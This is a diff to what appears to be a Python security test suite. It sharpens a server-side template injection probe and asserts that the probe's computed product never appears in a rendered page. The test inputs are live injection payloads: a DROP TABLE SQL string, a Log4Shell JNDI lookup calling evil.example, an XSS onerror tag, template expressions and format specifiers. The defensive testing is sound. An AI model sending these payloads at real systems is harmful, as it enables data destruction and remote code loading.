@@ -16,7 +16,7 @@ HTML = {"Accept": "text/html"}
 #: What an interpreter would take for its own: SQL, templates, lookups, expressions, markup, a shell, formulas.
 CODE = (
     "'; DROP TABLE transfers;--",
-    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
+    "{{99991*99989}}${99991*99989}#{99991*99989}<%= 99991*99989 %>",
     "${jndi:ldap://evil.example/a}",
     "__proto__",
     '"><img src=x onerror=alert(1)>',
@@ -25,6 +25,8 @@ CODE = (
     "=HYPERLINK(1)",
     "%n%s%x",
 )
+#: What a template that is filled in makes of the second: too long to be in an id or a time by chance.
+PRODUCT = str(99991 * 99989)
 
 
 class Page(HTMLParser):
@@ -91,7 +93,7 @@ def test_on_the_page_it_is_text(told: dict[str, Any], public: httpx.Client) -> N
     assert page.handlers == set()
     assert "script-src" not in answer.headers["content-security-policy"]
     assert answer.headers["content-security-policy"].startswith("default-src 'none'")
-    assert "49" not in answer.text.replace(told["link"], "")
+    assert PRODUCT not in answer.text
 
 
 def test_in_the_mail_it_is_text_and_no_header(told: dict[str, Any], attacker: Person) -> None:
